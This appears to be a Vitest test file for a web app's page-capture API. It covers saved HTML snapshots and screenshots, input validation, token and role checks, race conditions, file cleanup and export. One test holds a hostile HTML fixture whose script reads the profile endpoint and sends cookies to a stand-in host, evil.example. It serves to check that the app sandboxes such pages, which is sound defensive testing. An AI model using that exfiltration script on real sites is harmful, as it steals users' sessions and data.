import { createServer } from 'node:http';
import { readdir } from 'node:fs/promises';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { zSauceExport } from '@sauce/contract/account';
import { LIMITS } from '@sauce/contract/limits';
import { sql } from 'drizzle-orm';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { openZip } from '../../lib/zip.ts';
import { reconcileFiles } from '../../services/file-reconciliation.ts';
import { listKeys } from '../../storage/file-store.ts';
import { body, buildTestApp, type TestApp } from '../../test/build-app.ts';
import { buildMember, buildUser, buildWorkspace, type TestUser } from '../../test/factories.ts';
import { NOT_AN_IMAGE, SVG } from '../../test/image-fixtures.ts';
import { type FormPart, multipartForm } from '../../test/upload.ts';
import { createFileStore } from '../../storage/file-store.ts';

/** Issue #20: POST /archive/sauce/{workspace}/capture, the saved copy and /saved. */

let t: TestApp;
let png: Buffer;
let shot: Buffer;
beforeAll(async () => {
  t = await buildTestApp();
  png = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#c03030' } }).png().toBuffer();
  shot = await sharp({ create: { width: 800, height: 500, channels: 3, background: '#3060c0' } }).png().toBuffer();
});

const files = () => createFileStore(t.config.files);
const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
const HTML = '<!DOCTYPE html><html><head><title>Pricing</title></head><body><h1>Pricing</h1><p>€9 a month</p></body></html>';
const snapshotPart = (html: string | Buffer = HTML): FormPart => ({
  name: 'snapshot',
  data: Buffer.isBuffer(html) ? html : Buffer.from(html),
  filename: 'page.html',
  contentType: 'text/html',
});
const shotPart = (): FormPart => ({ name: 'screenshot', data: shot, filename: 'shot.png', contentType: 'image/png' });
const imagePart = (data = png): FormPart => ({ name: 'image', data, filename: 'i.png', contentType: 'image/png' });

async function token(u: TestUser, scope: 'read' | 'write' = 'write') {
  const res = await t.app.inject({ method: 'POST', url: '/api/auth/tokens', headers: u.headers, payload: { name: 'ext', scope } });
  expect(res.statusCode).toBe(200);
  return body(res).data.token as string;
}

function capture(ws: number, headers: Record<string, string>, parts: FormPart[]) {
  const form = multipartForm(parts);
  return t.app.inject({ method: 'POST', url: `/api/archive/sauce/${ws}/capture`, headers: { ...headers, ...form.headers }, payload: form.payload });
}

const allKeys = () => listKeys(files(), '');
const tmpFiles = async () => (await readdir(path.join(t.config.dataDir, 'tmp', 'uploads')).catch(() => [] as string[])).filter((f) => f.startsWith('upload-'));
const sauceCount = async (ws: number) =>
  (await t.db.execute<{ n: number }>(sql`SELECT count(*)::int AS n FROM sauces WHERE workspace_id = ${ws}`)).rows[0]!.n;

describe('capturing a page', () => {
  it('makes a text source with its saved copy in one request, through a token', async () => {
    const ann = await buildUser(t, 'ann');
    const folder = body(await t.app.inject({ method: 'POST', url: `/api/archive/folder/${ann.workspaceId}`, headers: ann.headers, payload: { name: 'Pricing' } })).data;
    const pat = await token(ann);
    const res = await capture(ann.workspaceId, bearer(pat), [
      { name: 'link', value: 'https://example.com/pricing' },
      { name: 'title', value: 'Example — Pricing' },
      { name: 'text', value: 'Selected: €9 a month' },
      { name: 'tagSet', value: '["Pricing","SaaS"]' },
      { name: 'folderSet', value: String(folder.id) },
      snapshotPart(),
      shotPart(),
    ]);
    expect(res.statusCode, res.body).toBe(200);
    const s = body(res).data;
    expect(s).toMatchObject({
      type: 'TEXT',
      title: 'Example — Pricing',
      textSauce: { text: 'Selected: €9 a month', link: 'https://example.com/pricing' },
      tagSet: [{ name: 'pricing' }, { name: 'saas' }],
      folderSet: [{ id: folder.id, name: 'Pricing' }],
      textCard: { previewStatus: 'ready', title: 'Example — Pricing' },
    });
    expect(s.savedCopy).toMatchObject({ pageUrl: 'https://example.com/pricing', snapshotBytes: Buffer.byteLength(HTML) });
    expect(s.savedCopy.snapshotUrl).toMatch(/^\/saved\/captures\/[0-9a-f]{32}\/snapshot\.html\?exp=\d+&sig=/);
    expect(s.thumbnail).toBe(s.savedCopy.screenshotThumbnailUrl);
    expect(s.thumbnailMeta).toMatchObject({ width: 800, height: 500 });
    expect(s.byteSize).toBe(s.savedCopy.byteSize);
    expect(s.byteSize).toBeGreaterThan(Buffer.byteLength(HTML));

    // The source's JSON names the saved copy; lists carry the screenshot as the thumbnail only.
    const read = body(await t.app.inject({ method: 'GET', url: `/api/archive/sauce/${ann.workspaceId}/${s.id}`, headers: ann.headers })).data;
    expect(read.savedCopy.snapshotUrl).toBe(s.savedCopy.snapshotUrl);
    const list = body(await t.app.inject({ method: 'GET', url: `/api/archive/sauce/${ann.workspaceId}/list`, headers: ann.headers })).data;
    expect(list.results[0]).toMatchObject({ id: s.id, savedCopy: null, thumbnail: s.thumbnail });
    // Counted in the space's storage.
    const status = body(await t.app.inject({ method: 'GET', url: `/workspace/${ann.workspaceId}/status`.replace(/^/, '/api'), headers: ann.headers })).data;
    expect(status.storageBytes).toBeGreaterThanOrEqual(s.byteSize);

    // The snapshot: on its own path, sandboxed, no cookie; never from /files.
    const snap = await t.app.inject({ method: 'GET', url: s.savedCopy.snapshotUrl });
    expect(snap.statusCode).toBe(200);
    expect(snap.body).toBe(HTML);
    expect(snap.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(snap.headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/);
    expect(snap.headers['content-security-policy']).not.toMatch(/allow-scripts|allow-same-origin|script-src/);
    expect(snap.headers['x-content-type-options']).toBe('nosniff');
    expect(snap.headers['set-cookie']).toBeUndefined();
    const viaFiles = await t.app.inject({ method: 'GET', url: s.savedCopy.snapshotUrl.replace('/saved/', '/files/') });
    expect(viaFiles.statusCode).toBe(404);
    // One character of the signature changed (to another: 'A' unless it is one already).
    const tampered = await t.app.inject({ method: 'GET', url: s.savedCopy.snapshotUrl.replace(/sig=(.)/, (_: string, c: string) => `sig=${c === 'A' ? 'B' : 'A'}`) });
    expect(tampered.statusCode).toBe(404);
    const shotRes = await t.app.inject({ method: 'GET', url: s.savedCopy.screenshotUrl });
    expect(shotRes.headers['content-type']).toBe('image/webp');
  });

  it('makes an image source from several images, keeping the link', async () => {
    const bo = await buildUser(t, 'bo');
    const res = await capture(bo.workspaceId, bo.headers, [
      { name: 'link', value: 'https://example.com/gallery' },
      { name: 'title', value: 'Gallery' },
      imagePart(),
      imagePart(),
      imagePart(shot),
      shotPart(),
    ]);
    expect(res.statusCode, res.body).toBe(200);
    const s = body(res).data;
    expect(s.type).toBe('IMAGE');
    expect(s.destination).toBe('https://example.com/gallery');
    expect(s.imageSauce).toHaveLength(3);
    expect(s.imageSauce.map((i: { width: number }) => i.width)).toEqual([40, 40, 800]);
    expect(s.savedCopy.snapshotUrl).toBeNull();
    expect(s.savedCopy.screenshotUrl).not.toBeNull();
  });

  it('a hostile snapshot is kept as it is, and served only under the sandbox policy', async () => {
    const cy = await buildUser(t, 'cy');
    const hostile = `<!doctype html><html><body><script>fetch('/api/auth/profile').then(r=>r.text()).then(t=>fetch('https://evil.example/?'+document.cookie+t))</script>
      <img src="https://evil.example/pixel.gif"><form action="/api/auth/withdrawal" method="post"><button>go</button></form></body></html>`;
    const res = await capture(cy.workspaceId, cy.headers, [{ name: 'title', value: 'x' }, snapshotPart(hostile)]);
    expect(res.statusCode).toBe(200);
    const snap = await t.app.inject({ method: 'GET', url: body(res).data.savedCopy.snapshotUrl, headers: cy.headers });
    expect(snap.body).toBe(hostile);
    const csp = String(snap.headers['content-security-policy']);
    expect(csp.split('; ')).toEqual(expect.arrayContaining(['sandbox', "default-src 'none'", "form-action 'none'", 'img-src data:']));
  });

  it('the server fetches nothing: a link to a private address is kept, never requested', async () => {
    let hits = 0;
    const server = createServer((_req, res) => {
      hits++;
      res.end('<html><head><title>internal</title></head></html>');
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as { port: number }).port;
    try {
      const di = await buildUser(t, 'di');
      const link = `http://127.0.0.1:${port}/admin`;
      const res = await capture(di.workspaceId, di.headers, [{ name: 'link', value: link }, { name: 'title', value: 'Internal' }, snapshotPart()]);
      expect(res.statusCode).toBe(200);
      expect(body(res).data.textCard).toMatchObject({ link, previewStatus: 'ready' });
      await t.jobs.flush(); // (a save's jobs are sent after it answered)
      const jobs = await t.db.execute<{ n: number }>(sql`SELECT count(*)::int AS n FROM pgboss.job WHERE data->>'link' = ${link}`).catch(() => ({ rows: [{ n: 0 }] }));
      expect(jobs.rows[0]!.n).toBe(0);
      // Every background job due runs now: none of them requests the link either.
      await t.runUntilIdle();
      expect(hits).toBe(0);
    } finally {
      server.close();
    }
  });
});

describe('bad captures', () => {
  it('refuses what an ordinary save refuses (400), and leaves nothing behind', async () => {
    const ed = await buildUser(t, 'ed');
    const other = await buildUser(t, 'other');
    const foreignFolder = body(await t.app.inject({ method: 'POST', url: `/api/archive/folder/${other.workspaceId}`, headers: other.headers, payload: { name: 'Theirs' } })).data;
    const before = await allKeys();
    const cases: [FormPart[], number][] = [
      [[{ name: 'link', value: 'javascript:alert(1)' }, snapshotPart()], 400],
      [[{ name: 'tagSet', value: '["a","b","c","d","e","f"]' }, snapshotPart()], 400],
      [[{ name: 'tagSet', value: 'not-a-tag' }, snapshotPart()], 400],
      [[{ name: 'tagSet', value: '[1,{"x":1}]' }, snapshotPart()], 400],
      [[{ name: 'title', value: 't'.repeat(101) }, snapshotPart()], 400],
      [[{ name: 'title', value: 't'.repeat(61) }, imagePart()], 400],
      [[{ name: 'title', value: 'a' }, { name: 'title', value: 'b' }], 400],
      [[{ name: 'secret', value: 'x' }], 400],
      [[{ name: 'text', value: 'a\u0000b' }], 400],
      [[{ name: 'folderSet', value: String(foreignFolder.id) }, snapshotPart()], 404],
      [[{ name: 'title', value: 'x' }, { name: 'file', data: png }], 400],
      [[snapshotPart(), snapshotPart()], 400],
    ];
    for (const [parts, status] of cases) {
      const res = await capture(ed.workspaceId, ed.headers, parts);
      expect(res.statusCode, `${JSON.stringify(parts.map((p) => p.name))}: ${res.body}`).toBe(status);
    }
    expect(await sauceCount(ed.workspaceId)).toBe(0);
    expect(await allKeys()).toEqual(before);
    expect(await tmpFiles()).toEqual([]);
  });

  it('a snapshot that is not UTF-8 HTML is 415; one over 20 MB is 413', async () => {
    const fay = await buildUser(t, 'fay');
    for (const data of [NOT_AN_IMAGE, png, SVG, Buffer.from('{"html": "<html>"}'), Buffer.concat([Buffer.from('<!doctype html><p>'), Buffer.from([0xff, 0xfe, 0x80])])]) {
      const res = await capture(fay.workspaceId, fay.headers, [snapshotPart(data)]);
      expect(res.statusCode).toBe(415);
      expect(body(res).error.code).toBe('UNSUPPORTED_SNAPSHOT');
    }
    const big = Buffer.concat([Buffer.from('<!doctype html><html><body>'), Buffer.alloc(LIMITS.snapshotBytes, 'a')]);
    const res = await capture(fay.workspaceId, fay.headers, [snapshotPart(big)]);
    expect(res.statusCode).toBe(413);
    expect(body(res).error.details).toMatchObject({ limitBytes: LIMITS.snapshotBytes });
    // A screenshot that is not an image: 415 as an upload.
    const notShot = await capture(fay.workspaceId, fay.headers, [{ name: 'screenshot', data: SVG, filename: 'x.svg', contentType: 'image/svg+xml' }]);
    expect(notShot.statusCode).toBe(415);
    expect(await sauceCount(fay.workspaceId)).toBe(0);
    expect(await tmpFiles()).toEqual([]);
  });

  it(`refuses an 11th image (SPEC §9: ${LIMITS.imagesPerSauce} per source)`, async () => {
    const gil = await buildUser(t, 'gil');
    const before = await allKeys();
    const res = await capture(gil.workspaceId, gil.headers, Array.from({ length: LIMITS.imagesPerSauce + 1 }, () => imagePart()));
    expect(res.statusCode).toBe(422);
    expect(body(res).error).toMatchObject({ code: 'LIMIT_REACHED', details: { resource: 'images', limit: 10 } });
    expect(await allKeys()).toEqual(before);
    const ten = await capture(gil.workspaceId, gil.headers, Array.from({ length: LIMITS.imagesPerSauce }, () => imagePart()));
    expect(ten.statusCode).toBe(200);
    expect(body(ten).data.imageSauce).toHaveLength(10);
  });

  it("a viewer's token cannot capture (403 'Viewer members cannot upload sources'); a stranger's space is 404; a read token is 403", async () => {
    const owner = await buildUser(t, 'owner');
    const team = await buildWorkspace(t, owner);
    const viewer = await buildMember(t, team, 'READER');
    const stranger = await buildUser(t, 'stranger');
    const viewerRes = await capture(team, bearer(await token(viewer)), [snapshotPart()]);
    expect(viewerRes.statusCode).toBe(403);
    expect(body(viewerRes).error).toMatchObject({ code: 'VIEWER_CANNOT_UPLOAD', message: 'Viewer members cannot upload sources.' });
    expect((await capture(team, bearer(await token(stranger)), [snapshotPart()])).statusCode).toBe(404);
    expect((await capture(owner.workspaceId, bearer(await token(owner, 'read')), [snapshotPart()])).statusCode).toBe(403);
    expect((await capture(team, {}, [snapshotPart()])).statusCode).toBe(401);
    expect(await sauceCount(team)).toBe(0);
  });

  it(`keeps the ${LIMITS.saucesPerWorkspace}-source limit when captures race`, async () => {
    const hu = await buildUser(t, 'hu');
    await t.db.execute(sql`
      INSERT INTO sauces (workspace_id, author_id, type, title)
      SELECT ${hu.workspaceId}, ${hu.userId}, 'TEXT', 'n' || g FROM generate_series(1, ${LIMITS.saucesPerWorkspace - 2}) g`);
    const results = await Promise.all(Array.from({ length: 5 }, () => capture(hu.workspaceId, hu.headers, [snapshotPart(), shotPart()])));
    expect(results.filter((r) => r.statusCode === 200)).toHaveLength(2);
    expect(results.filter((r) => r.statusCode === 422)).toHaveLength(3);
    expect(await sauceCount(hu.workspaceId)).toBe(LIMITS.saucesPerWorkspace);
    const { rows } = await t.db.execute<{ n: number }>(sql`SELECT count(*)::int AS n FROM sauce_captures WHERE workspace_id = ${hu.workspaceId}`);
    expect(rows[0]!.n).toBe(2);
    // The refused captures' files are gone: only the two saved copies' files are there.
    const keys = (await allKeys()).filter((k) => k.startsWith('captures/'));
    const kept = await t.db.execute<{ k: string }>(sql`SELECT storage_key AS k FROM sauce_captures`);
    expect(new Set(keys.map((k) => k.split('/').slice(0, 2).join('/')))).toEqual(new Set(kept.rows.map((r) => r.k)));
  });
});

/**
 * A capture whose body is sent in two halves: the pre-handler has passed and the snapshot is
 * streaming to disk when `between` runs; then the rest arrives.
 */
async function captureInFlight(ws: number, headers: Record<string, string>, between: () => Promise<void>) {
  const form = multipartForm([{ name: 'title', value: 'In flight' }, snapshotPart(), shotPart()]);
  const stream = new PassThrough();
  const cut = form.payload.indexOf(Buffer.from('name="screenshot"'));
  const pending = t.app.inject({ method: 'POST', url: `/api/archive/sauce/${ws}/capture`, headers: { ...headers, ...form.headers }, payload: stream });
  stream.write(form.payload.subarray(0, cut));
  // Wait until the snapshot has been streamed to a temporary file: the request is past authorization.
  for (let i = 0; i < 200 && (await tmpFiles()).length === 0; i++) await new Promise((r) => setTimeout(r, 10));
  expect((await tmpFiles()).length).toBeGreaterThan(0);
  await between();
  stream.end(form.payload.subarray(cut));
  return pending;
}

describe('races while a capture is in flight', () => {
  it('a token revoked meanwhile: 401, and nothing stays', async () => {
    const ivy = await buildUser(t, 'ivy');
    const res0 = await t.app.inject({ method: 'POST', url: '/api/auth/tokens', headers: ivy.headers, payload: { name: 'ext', scope: 'write' } });
    const { id, token: pat } = body(res0).data;
    const before = await allKeys();
    const res = await captureInFlight(ivy.workspaceId, bearer(pat), async () => {
      const revoked = await t.app.inject({ method: 'DELETE', url: `/api/auth/tokens/${id}`, headers: ivy.headers });
      expect(revoked.statusCode).toBe(200);
    });
    expect(res.statusCode, res.body).toBe(401);
    expect(await sauceCount(ivy.workspaceId)).toBe(0);
    expect(await allKeys()).toEqual(before);
    expect(await tmpFiles()).toEqual([]);
  });

  it('a member demoted to viewer meanwhile: 403, and nothing stays', async () => {
    const owner = await buildUser(t, 'own2');
    const team = await buildWorkspace(t, owner);
    const editor = await buildMember(t, team, 'EDITOR');
    const pat = await token(editor);
    const before = await allKeys();
    const res = await captureInFlight(team, bearer(pat), async () => {
      const demoted = await t.app.inject({ method: 'PATCH', url: `/api/workspace/${team}/user/${editor.userId}`, headers: owner.headers, payload: { permission: 'READER' } });
      expect(demoted.statusCode, demoted.body).toBe(200);
    });
    expect(res.statusCode, res.body).toBe(403);
    expect(body(res).error.code).toBe('VIEWER_CANNOT_UPLOAD');
    expect(await sauceCount(team)).toBe(0);
    expect(await allKeys()).toEqual(before);
  });

  it('a token revoked after the capture committed leaves the source, and refuses the next', async () => {
    const jay = await buildUser(t, 'jay');
    const res0 = await t.app.inject({ method: 'POST', url: '/api/auth/tokens', headers: jay.headers, payload: { name: 'ext', scope: 'write' } });
    const { id, token: pat } = body(res0).data;
    const [saved, revoked] = await Promise.all([
      capture(jay.workspaceId, bearer(pat), [snapshotPart()]),
      new Promise((r) => setTimeout(r, 5)).then(() => t.app.inject({ method: 'DELETE', url: `/api/auth/tokens/${id}`, headers: jay.headers })),
    ]);
    expect(revoked.statusCode).toBe(200);
    expect([200, 401]).toContain(saved.statusCode);
    expect(await sauceCount(jay.workspaceId)).toBe(saved.statusCode === 200 ? 1 : 0);
    expect((await capture(jay.workspaceId, bearer(pat), [snapshotPart()])).statusCode).toBe(401);
  });
});

describe('a saved copy goes with its source', () => {
  it('deleting the source deletes its files; the orphan sweep removes strays and keeps live copies', async () => {
    const kay = await buildUser(t, 'kay');
    const a = body(await capture(kay.workspaceId, kay.headers, [snapshotPart(), shotPart()])).data;
    const b = body(await capture(kay.workspaceId, kay.headers, [snapshotPart(), shotPart()])).data;
    const keyOf = (s: { savedCopy: { snapshotUrl: string } }) => s.savedCopy.snapshotUrl.split('/').slice(2, 4).join('/');
    const del = await t.app.inject({ method: 'DELETE', url: `/api/archive/sauce/${kay.workspaceId}/${a.id}`, headers: kay.headers });
    expect(del.statusCode).toBe(200);
    const keys = await allKeys();
    expect(keys.filter((k) => k.startsWith(keyOf(a)))).toEqual([]);
    expect(keys.filter((k) => k.startsWith(keyOf(b)))).toHaveLength(4);

    await files().put('captures/0123456789abcdef0123456789abcdef/snapshot.html', Buffer.from('<html></html>'), 'text/html; charset=utf-8');
    const report = await reconcileFiles({ db: t.db, files: files() }, { graceMs: 0 });
    expect(report.missingCount).toBe(0);
    const after = await allKeys();
    expect(after).not.toContain('captures/0123456789abcdef0123456789abcdef/snapshot.html');
    expect(after.filter((k) => k.startsWith(keyOf(b)))).toHaveLength(4);
  });
});

describe('saved copies elsewhere', () => {
  it('are in the export ZIP, named in sauce-export.json', async () => {
    const lee = await buildUser(t, 'lee');
    const s = body(await capture(lee.workspaceId, lee.headers, [{ name: 'link', value: 'https://example.com/a' }, snapshotPart(), shotPart()])).data;
    const res = await t.app.inject({ method: 'GET', url: '/api/account/export', headers: lee.headers });
    expect(res.statusCode).toBe(200);
    const archive = await openZip(res.rawPayload, { maxEntries: 100, maxTotalBytes: 100_000_000 });
    const doc = zSauceExport.parse(JSON.parse((await archive.read(archive.entries.get('sauce-export.json')!)).toString('utf8')));
    const exported = doc.workspaces[0]!.sauces.find((x) => x.id === s.id)!;
    expect(exported.savedCopy).toMatchObject({
      pageUrl: 'https://example.com/a',
      snapshot: `saved/${lee.workspaceId}/${s.id}/snapshot.html`,
      screenshot: `saved/${lee.workspaceId}/${s.id}/screenshot.png`,
    });
    expect((await archive.read(archive.entries.get(exported.savedCopy!.snapshot!)!)).toString('utf8')).toBe(HTML);
    expect(archive.entries.has(exported.savedCopy!.screenshot!)).toBe(true);
  });

  it('are left out of public shares, and go with a deleted space', async () => {
    const mo = await buildUser(t, 'mo');
    const team = await buildWorkspace(t, mo);
    const s = body(await capture(team, mo.headers, [snapshotPart(), shotPart()])).data;
    const shared = body(await t.app.inject({ method: 'POST', url: `/api/archive/sauce/${team}/${s.id}/share`, headers: mo.headers, payload: { isShareEnabled: true } })).data;
    const pub = body(await t.app.inject({ method: 'GET', url: `/api/archive/sauce/share/${shared.link.split('/').pop()}` })).data;
    expect(pub.savedCopy).toBeNull();
    const key = s.savedCopy.snapshotUrl.split('/').slice(2, 4).join('/');
    expect((await allKeys()).filter((k) => k.startsWith(key))).toHaveLength(4);
    const gone = await t.app.inject({ method: 'DELETE', url: `/api/workspace/${team}`, headers: mo.headers });
    expect(gone.statusCode, gone.body).toBe(200);
    expect((await allKeys()).filter((k) => k.startsWith(key))).toEqual([]);
  });

  it('the OpenAPI document describes the capture and the tokens, with the personal token scheme', async () => {
    const doc = body(await t.app.inject({ method: 'GET', url: '/api/docs/json' }));
    expect(doc.components.securitySchemes.personalToken).toMatchObject({ type: 'http', scheme: 'bearer' });
    const captureOp = doc.paths['/api/archive/sauce/{workspace}/capture'].post;
    expect(captureOp.operationId).toBe('captureSauce');
    expect(Object.keys(captureOp.requestBody.content['multipart/form-data'].schema.properties)).toEqual(
      expect.arrayContaining(['link', 'title', 'text', 'tagSet', 'folderSet', 'snapshot', 'screenshot', 'image']),
    );
    expect(captureOp.security).toEqual(expect.arrayContaining([{ personalToken: [] }]));
    // Managing tokens is for the signed-in person only: no personal token there.
    expect(doc.paths['/api/auth/tokens'].post.security).not.toEqual(expect.arrayContaining([{ personalToken: [] }]));
    expect(doc.paths['/api/auth/tokens/exchange'].post.security).toEqual([]);
  });
});
